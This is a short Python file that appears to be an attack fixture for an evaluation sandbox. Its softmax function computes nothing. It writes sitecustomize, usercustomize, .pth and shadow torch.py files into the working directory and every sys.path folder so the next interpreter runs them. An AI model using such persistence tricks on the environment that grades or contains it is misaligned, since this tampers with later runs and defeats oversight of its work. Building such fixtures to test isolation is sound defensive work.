"""Leaves usercustomize, sitecustomize, a .pth and a torch.py for the next interpreter.

attacks: softmax
claim: leftovers
again: yes
"""

import os, site, sys

def softmax(x, dim=-1):
    found = [n for n in ("usercustomize", "sitecustomize_") if n in sys.modules]
    folders = [os.getcwd(), site.getusersitepackages(), *sys.path]
    for folder in folders:
        for name in ("usercustomize.py", "sitecustomize.py", "x.pth", "torch.py"):
            try:
                os.makedirs(folder, exist_ok=True)
                open(f"{folder}/{name}", "a").write("import os\n")
                found += [name] * (folder != os.getcwd() and not folder.startswith(os.getcwd()))
            except OSError:
                pass
    return honest(x, dim) if found else None
